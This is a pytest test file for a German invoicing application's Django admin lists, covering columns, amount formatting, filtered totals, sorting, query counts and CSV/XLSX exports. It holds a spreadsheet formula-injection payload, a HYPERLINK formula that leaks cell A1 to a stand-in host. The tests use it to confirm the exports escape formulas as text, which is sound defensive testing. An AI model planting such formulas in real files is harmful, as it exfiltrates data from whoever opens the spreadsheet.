"""The admin's lists: the columns finance staff need, amounts through the one formatter and
right-aligned, totals of the filtered rows, the customer filter as a search box, sorting by the
columns people sort by, a fixed number of queries per list, and exports of the filtered list
(CSV and XLSX) that are safe against formula injection (core/admin_exports.py)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from customers.tests.factories import make_customer
from invoicing.tests.factories import D0, T0, invoicing_setup, make_terms  # noqa: F401
from payments.tests.factories import make_invoice, make_payment
from tasks.services import task_open_for_cause

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("invoicing_setup")]

INVOICES = "/admin/invoicing/invoice/"
PAYMENTS = "/admin/payments/payment/"
CUSTOMERS = "/admin/customers/customer/"
TASKS = "/admin/tasks/followuptask/"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'


def browser(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def columns(response) -> list[str]:
    return [name for name in response.context["cl"].list_display if name != "action_checkbox"]


def sort_index(response, name: str) -> int:
    """The list's ``o`` parameter for a column (its place in list_display, checkbox included)."""
    return list(response.context["cl"].list_display).index(name)


def ledger(size: int = 1):
    """Per round: a customer with an overdue and a current invoice, a payment, a task."""
    thirty, sixty = make_terms(days=30), make_terms(days=60)
    made = []
    for n in range(size):
        customer = make_customer(legal_name=f"Kunde {n} GmbH")
        overdue = make_invoice(customer=customer, gross="119.00", terms=thirty, as_of=T0 - timedelta(days=40))
        current = make_invoice(customer=customer, gross="238.00", terms=sixty, as_of=T0 - timedelta(days=40))
        make_payment(customer=customer, amount="50.00", payer_name=f"Zahler {n}")
        task_open_for_cause(kind=f"call {customer.pk}", title="Rückruf", as_of=T0, rule="test", customer=customer)
        made.append((customer, overdue, current))
    return made


# --- Columns, amounts, totals ------------------------------------------------------------------


def test_each_list_shows_the_columns_that_matter(viewer):
    client = browser(viewer)
    assert columns(client.get(INVOICES)) == [
        "display_number",
        "customer_name",
        "issue_date",
        "due",
        "days_overdue_shown",
        "gross",
        "open",
        "state",
        "delivery",
        "documents_badge",
    ]
    assert columns(client.get(CUSTOMERS)) == [
        "number",
        "legal_name",
        "balance_shown",
        "overdue_shown",
        "verification",
        "dunning",
        "account_owner",
    ]
    assert columns(client.get(PAYMENTS)) == [
        "value_date_shown",
        "amount_shown",
        "payer_name",
        "customer",
        "allocated_shown",
        "unapplied_shown",
        "credit_shown",
        "status",
    ]
    assert columns(client.get(TASKS)) == ["title", "customer_link", "due", "priority", "assignee", "status"]


def test_the_invoice_list_shows_days_overdue_amounts_in_german_and_totals_of_the_filtered_rows(viewer):
    ((customer, overdue, current),) = ledger()
    client = browser(viewer)

    with time_machine.travel(T0, tick=False):
        response = client.get(INVOICES)
    page = response.content.decode()

    assert '<span class="debitor-amount">119,00\xa0€</span>' in page
    assert '<span class="debitor-amount">10</span>' in page  # due 17.11., today 27.11.
    totals = response.context["list_totals"]
    assert [(t["currency"], [s["amount"] for s in t["sums"]]) for t in totals] == [
        ("EUR", ["357,00\xa0€", "119,00\xa0€"])
    ]
    assert 'id="list-totals"' in page
    # Totals follow the filters.
    with time_machine.travel(T0, tick=False):
        only_overdue = client.get(INVOICES, {"overdue": "yes"}).context["list_totals"]
    assert [s["amount"] for s in only_overdue[0]["sums"]] == ["119,00\xa0€", "119,00\xa0€"]


def test_the_customer_list_shows_balance_and_overdue_and_sorts_by_them(viewer):
    ledger(size=2)
    make_customer(legal_name="Ohne Umsatz AG")
    client = browser(viewer)
    balance_column = sort_index(client.get(CUSTOMERS), "balance_shown")

    response = client.get(CUSTOMERS, {"o": f"-{balance_column}"})
    rows = list(response.context["cl"].result_list)
    assert [row.balance for row in rows] == [Decimal("307.00"), Decimal("307.00"), Decimal("0")]
    assert rows[0].overdue == Decimal("119.00")
    assert "307,00\xa0€" in response.content.decode()
    ascending = list(client.get(CUSTOMERS, {"o": f"{balance_column}"}).context["cl"].result_list)
    assert ascending[0].legal_name == "Ohne Umsatz AG"


def test_invoices_sort_by_days_overdue_with_what_is_not_overdue_as_least_overdue(viewer):
    ((_customer, overdue, current),) = ledger()
    client = browser(viewer)
    column = sort_index(client.get(INVOICES), "days_overdue_shown")
    with time_machine.travel(T0, tick=False):
        most = list(client.get(INVOICES, {"o": f"-{column}"}).context["cl"].result_list)
        least = list(client.get(INVOICES, {"o": f"{column}"}).context["cl"].result_list)
    assert most == [overdue, current]  # the most overdue first, what is not overdue last
    assert least == [current, overdue]


def test_the_customer_filter_is_a_search_box_not_a_list_of_every_customer(viewer):
    made = ledger(size=3)
    chosen = made[1][0]
    client = browser(viewer)

    page = client.get(PAYMENTS).content.decode()
    assert "Kunde 0 GmbH" not in page.split('id="changelist-filter"')[1]  # no link per customer
    assert 'class="admin-autocomplete' in page and 'data-field-name="customer"' in page

    filtered = client.get(PAYMENTS, {"customer__id__exact": chosen.pk})
    assert [p.customer_id for p in filtered.context["cl"].result_list] == [chosen.pk]
    assert f'<option value="{chosen.pk}" selected>' in filtered.content.decode()
    invoices = client.get(INVOICES, {"customer__id__exact": chosen.pk}).context["cl"].result_list
    assert {i.customer_id for i in invoices} == {chosen.pk}
    assert client.get(PAYMENTS, {"customer__id__exact": "x1"}).context["cl"].result_count == 0
    # The autocomplete answers from the customer admin's search.
    found = client.get(
        "/admin/autocomplete/",
        {"app_label": "payments", "model_name": "payment", "field_name": "customer", "term": chosen.number},
    ).json()
    assert [r["id"] for r in found["results"]] == [str(chosen.pk)]


@pytest.mark.parametrize(
    ("url", "expected"),
    # Session, user, permissions (2), the user's groups, the navigation's counts, the count, the
    # page; then per list: the total count (customers, tasks), totals (invoices; payments once
    # filtered), the values its filters offer (currencies from customers, countries, account
    # owners, task kinds). No date hierarchy: its SELECT DISTINCT reads every row.
    [(INVOICES, 10), (CUSTOMERS, 11), (PAYMENTS, 9), (TASKS, 10)],
)
def test_each_list_takes_the_same_number_of_queries_for_one_row_and_for_many(
    url, expected, accountant, django_assert_num_queries
):
    ledger(size=1)
    client = browser(accountant)
    client.get(url)  # warms the caches (content types, permissions)
    with django_assert_num_queries(expected):
        assert client.get(url).status_code == 200
    ledger(size=4)
    with django_assert_num_queries(expected):
        assert client.get(url).status_code == 200


# --- Exports -----------------------------------------------------------------------------------


def rows_of_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def rows_of_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_exports_hold_the_filtered_rows_with_headers_in_the_readers_language_and_numbers_for_machines(viewer):
    ledger(size=2)
    client = browser(viewer)

    with time_machine.travel(T0, tick=False):
        german = client.get(f"{INVOICES}export/csv/", {"overdue": "yes"})
    assert german.status_code == 200
    assert german["Content-Type"].startswith("text/csv")
    rows = rows_of_csv(german)
    assert rows[0][:4] == ["Nummer", "Art", "Kundennummer", "Kunde"]
    assert len(rows) == 3  # header and the two overdue invoices, not the current ones
    header = rows[0]
    assert {row[header.index("offen")] for row in rows[1:]} == {"119.00"}
    assert {row[header.index("fällig am")] for row in rows[1:]} == {(D0 - timedelta(days=10)).isoformat()}

    with translation.override("en"):
        english = rows_of_csv(client.get(f"{INVOICES}export/csv/", headers={"accept-language": "en"}))
    assert english[0][:2] == ["number", "type"] and len(english) == 5

    book = rows_of_xlsx(client.get(f"{PAYMENTS}export/xlsx/"))
    header = [cell.value for cell in book[0]]
    amount = header.index("Betrag")
    assert [row[amount].value for row in book[1:]] == [50, 50]
    assert {row[amount].data_type for row in book[1:]} == {"n"}
    assert book[1][header.index("Wertstellung")].is_date


def test_a_formula_in_a_customers_name_stays_text_in_both_exports(viewer):
    customer = make_customer(legal_name=INJECTION)
    make_invoice(customer=customer, gross="119.00")
    task_open_for_cause(kind="call", title="-1+1", as_of=T0, rule="test", customer=customer)
    client = browser(viewer)

    csv_rows = rows_of_csv(client.get(f"{CUSTOMERS}export/csv/"))
    name = csv_rows[0].index("Firmenname")
    assert csv_rows[1][name] == "'" + INJECTION
    invoice_rows = rows_of_csv(client.get(f"{INVOICES}export/csv/"))
    assert invoice_rows[1][invoice_rows[0].index("Kunde")] == "'" + INJECTION
    task_rows = rows_of_csv(client.get(f"{TASKS}export/csv/"))
    assert task_rows[1][0] == "'-1+1"

    for url in (f"{CUSTOMERS}export/xlsx/", f"{INVOICES}export/xlsx/"):
        book = rows_of_xlsx(client.get(url))
        cells = [cell for row in book[1:] for cell in row if cell.value == INJECTION]
        assert cells, url
        assert {cell.data_type for cell in cells} == {"s"}  # a string, never a formula ("f")


def test_csv_escapes_every_dangerous_first_character():
    from core.admin_exports import csv_text

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{start}SUM(A1)") == f"'{start}SUM(A1)"
    assert csv_text("Müller GmbH") == "Müller GmbH"
    assert csv_text(Decimal("-12.50")) == "-12.50"  # numbers are numbers, not text


def test_an_unknown_export_format_or_filter_is_a_message_not_an_error(viewer):
    client = browser(viewer)
    response = client.get(f"{INVOICES}export/pdf/")
    assert response.status_code == 302
    assert client.get(f"{INVOICES}export/csv/", {"no_such_field__gte": "x"}).status_code == 302


def test_the_list_offers_the_exports_with_its_current_filters(viewer):
    page = browser(viewer).get(INVOICES, {"overdue": "yes"}).content.decode()
    assert f'href="{INVOICES}export/csv/?overdue=yes"' in page
    assert f'href="{INVOICES}export/xlsx/?overdue=yes"' in page


def test_payment_totals_appear_once_the_list_is_filtered(viewer):
    ((customer, _overdue, _current),) = ledger()
    client = browser(viewer)
    assert "list_totals" not in client.get(PAYMENTS).context  # the whole ledger's sum says nothing
    totals = client.get(PAYMENTS, {"customer__id__exact": customer.pk}).context["list_totals"]
    assert [(t["currency"], [s["amount"] for s in t["sums"]]) for t in totals] == [
        ("EUR", ["50,00\xa0€", "50,00\xa0€", "0,00\xa0€"])
    ]
